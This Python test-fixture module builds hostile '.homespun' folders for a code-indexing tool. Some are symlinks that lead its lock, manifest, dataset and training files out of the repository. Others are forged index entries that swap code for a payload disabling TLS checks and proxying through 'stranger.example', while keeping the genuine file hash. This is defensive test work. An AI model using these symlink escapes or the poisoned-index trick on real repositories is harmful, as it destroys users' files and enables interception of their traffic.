"""Hostile `.homespun` folders, made for real.

`LINKED`: a builder takes the root of a repository and a folder outside of it that is full of things
to lose; what it leaves leads out of the root, or is no plain folder. `BROUGHT`: a builder takes the
root and a scratch folder; it leaves what another machine has made, by our own code and that
machine's own key, so that nothing is wrong with it but where it comes from.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

Builder = Callable[[Path, Path], None]

CLIENT = "def fetch(url, session):\n    return session.get(url, timeout=session.timeout)\n"
POISON = "verify=False, proxies={'https': 'http://stranger.example'}"
TO_LOSE = {
    "lock": "theirs",
    "lock.json": "theirs",
    "manifest.json": "theirs",
    "lance/chunks.lance/data/rows.lance": "theirs",
    "lance.0123456789abcdef/rows": "theirs",
    "training/run-0001/state.json": "theirs",
    "training/lock": "theirs",
    "dataset/data_card.json": "{}",
    "dataset.old/data_card.json": "{}",
    "dataset.draft/key.json": "theirs",
    "eval/answers.jsonl": "theirs",
    "adapters/aliases.json": "theirs",
}


def build_repository(root: Path) -> Path:
    """Make an innocent folder of source."""
    root.mkdir(parents=True)
    (root / "client.py").write_text(CLIENT, encoding="utf-8")
    (root / "app.py").write_text("from client import fetch\n\nfetch(\n", encoding="utf-8")
    return root


def build_outside(outside: Path) -> Path:
    """Make what there is to lose, under the names that homespun itself uses."""
    for name, text in TO_LOSE.items():
        (outside / name).parent.mkdir(parents=True, exist_ok=True)
        (outside / name).write_text(text, encoding="utf-8")
    return outside


# --- what leads out of the root


def build_linked_folder(root: Path, outside: Path) -> None:
    """`.homespun` is a link to a folder with things of the same names."""
    (root / ".homespun").symlink_to(outside, target_is_directory=True)


def build_dangling_folder(root: Path, outside: Path) -> None:
    """`.homespun` is a link to nothing: whoever makes the folder makes it there."""
    (root / ".homespun").symlink_to(outside / "made", target_is_directory=True)


def build_linked(name: str, target: str) -> Builder:
    """Return what makes `.homespun/name` a link to `target` outside."""

    def build(root: Path, outside: Path) -> None:
        link = root / ".homespun" / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(outside / target)

    return build


def build_file(root: Path, outside: Path) -> None:
    """`.homespun` is a file."""
    (root / ".homespun").write_text("no folder", encoding="utf-8")


def build_of_another_user(root: Path, outside: Path) -> None:
    """`.homespun` belongs to nobody; only root can make one."""
    (root / ".homespun").mkdir()
    os.chown(root / ".homespun", 65534, 65534)


LINKED: dict[str, Builder] = {
    "the folder": build_linked_folder,
    "the folder, dangling": build_dangling_folder,
    "a file": build_file,
    "lock": build_linked("lock", "lock"),
    "lock.json": build_linked("lock.json", "lock.json"),
    "lock.json, dangling": build_linked("lock.json", "made"),
    ".gitignore": build_linked(".gitignore", "lock"),
    ".gitignore, dangling": build_linked(".gitignore", "made"),
    "CACHEDIR.TAG, dangling": build_linked("CACHEDIR.TAG", "made"),
    "manifest.json": build_linked("manifest.json", "manifest.json"),
    "tables": build_linked("lance", "lance"),
    "tables, drawn": build_linked("lance.0123456789abcdef", "lance.0123456789abcdef"),
    "deep": build_linked("lance/chunks.lance/data", "lance"),
    "trainings": build_linked("training", "training"),
    "a run": build_linked("training/run-0001", "training/run-0001"),
    "the lock of trainings": build_linked("training/lock", "training/lock"),
    "dataset": build_linked("dataset", "dataset"),
    "dataset.old": build_linked("dataset.old", "dataset.old"),
    "dataset.draft": build_linked("dataset.draft", "dataset.draft"),
    "dataset.lock, dangling": build_linked("dataset.lock", "made"),
    "eval": build_linked("eval", "eval"),
    "answers": build_linked("eval/answers.jsonl", "eval/answers.jsonl"),
    "adapters": build_linked("adapters", "adapters"),
}
if hasattr(os, "geteuid") and os.geteuid() == 0:
    LINKED["of another user"] = build_of_another_user


# --- what another machine has made


_INDEX = """
import sys
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from homespun.indexer.storage.rest_client import leave_out_the_rest_client
leave_out_the_rest_client()
from homespun.indexer import build
from homespun.indexer.config import IndexConfig
from homespun.indexer.index import Index
from homespun.indexer.syntax.parse import parse_file

root, poison = Path(sys.argv[1]), sys.argv[2]

def poisoned(parser, path, source, config):
    text = source.replace(b"timeout=session.timeout", poison.encode())
    parsed = parse_file(path, text, config)
    return replace(parsed, content_hash=sha256(source).hexdigest())

build.ParserProcess.parse = poisoned
index = Index.open(root, IndexConfig(encoder="none"), create=True)
index.update()
hit, = index.search("fetch", limit=1)
assert poison in hit.text, hit.text
"""


def build_poisoned_index(root: Path, scratch: Path) -> None:
    """Rows whose text is another than the file's, under the hash of the file."""
    _run(_INDEX, root, POISON, home=scratch / "another machine")


def build_tracked_index(root: Path, scratch: Path) -> None:
    """The same, forced into the repository."""
    build_poisoned_index(root, scratch)
    commit_by_force(root)


def build_unsealed_index(root: Path, scratch: Path) -> None:
    """The same, without any seal, as versions before 3 wrote it."""
    import json

    build_poisoned_index(root, scratch)
    path = root / ".homespun" / "manifest.json"
    body = json.loads(path.read_text(encoding="utf-8"))
    del body["seal"]
    path.write_text(json.dumps(body), encoding="utf-8")


def build_moved_index(root: Path, scratch: Path) -> None:
    """The victim's own seal, of another folder."""
    other = build_repository(scratch / "other")
    _run(_INDEX, other, POISON, home=Path(os.environ["HOMESPUN_HOME"]))
    shutil.copytree(other / ".homespun", root / ".homespun")


BROUGHT: dict[str, Builder] = {
    "poisoned": build_poisoned_index,
    "tracked": build_tracked_index,
    "unsealed": build_unsealed_index,
    "of another folder": build_moved_index,
}


def commit_by_force(root: Path) -> None:
    """Put all of a folder into a git repository, what is ignored too."""
    none = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull}
    people = {
        f"GIT_{role}_{key}": "a@example.org"
        for role in ("AUTHOR", "COMMITTER")
        for key in ("NAME", "EMAIL")
    }
    for words in (["init", "-q"], ["add", "-A", "-f"], ["commit", "-qm", "all"]):
        command = ["git", *words]
        subprocess.run(command, cwd=root, env={**os.environ, **none, **people}, check=True)


def _run(code: str, *arguments: object, home: Path) -> None:
    subprocess.run(
        [sys.executable, "-P", "-c", code, *map(str, arguments)],
        env={**os.environ, "HOMESPUN_HOME": str(home)},
        check=True,
    )
